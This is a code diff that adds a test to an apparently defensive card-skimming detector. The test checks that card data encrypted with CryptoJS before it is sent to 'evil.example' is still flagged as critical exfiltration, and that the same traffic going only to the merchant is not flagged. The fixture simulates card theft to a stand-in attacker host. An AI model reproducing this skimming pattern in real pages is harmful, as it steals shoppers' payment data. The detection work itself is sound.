@@ -314,3 +314,18 @@ def test_the_referrer_and_a_socket_s_subprotocols_are_searched() -> None:
     found, _ = findings_for(referred, socket)
     assert {(f.script, f.evidence["where"]) for f in found} == {
         ("s1", "header Referer"), ("s2", "header Sec-WebSocket-Protocol")}
+
+
+def test_a_card_encrypted_before_sending_is_caught_by_its_plaintext() -> None:
+    encrypt = InstrumentEvent("sink", {"sink": "encrypt", "cipher": "CryptoJS"}, script="s1",
+                              data=json.dumps({"number": CANARY.pan, "cvv": CANARY.cvv}))
+    ciphertext = request("https://evil.example/c", "U2FsdGVkX19v8f3kZp0Q1w7xk0b3nqH2")
+    merchant = request("https://shop.example/api/cart", "U2FsdGVkX1+abc")
+    [f], _ = findings_for(ciphertext, merchant, instrumentation=(encrypt,))
+    assert f.rule == "canary-exfiltration" and f.severity is Severity.CRITICAL
+    assert f.evidence["host"] == "evil.example"
+    assert f.evidence["where"] == "encrypted payload"
+    assert f.evidence["encoding"].endswith("then encrypted with CryptoJS")
+    # encrypted, but sent only to the merchant (its own payment flow): nothing to say
+    found, _ = findings_for(merchant, instrumentation=(encrypt,))
+    assert found == []
